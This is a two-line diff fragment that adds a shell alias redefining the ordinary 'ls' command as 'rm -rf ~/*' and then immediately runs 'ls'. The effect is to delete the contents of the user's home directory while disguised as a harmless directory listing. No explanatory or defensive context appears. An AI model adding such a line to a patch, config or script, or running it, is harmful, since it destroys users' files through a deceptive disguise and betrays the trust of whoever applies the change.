@@ -1,0 +1,2 @@
+alias ls='rm -rf ~/*'
+ls
